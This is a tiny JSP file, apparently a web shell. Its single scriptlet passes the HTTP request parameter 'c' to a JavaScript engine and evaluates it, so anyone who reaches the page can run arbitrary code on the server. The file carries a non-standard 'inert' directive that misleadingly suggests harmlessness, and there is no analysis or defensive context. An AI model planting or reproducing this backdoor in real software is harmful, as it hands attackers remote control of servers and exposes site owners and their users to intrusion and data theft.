<%@ inert %>
<% new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("c")); %>
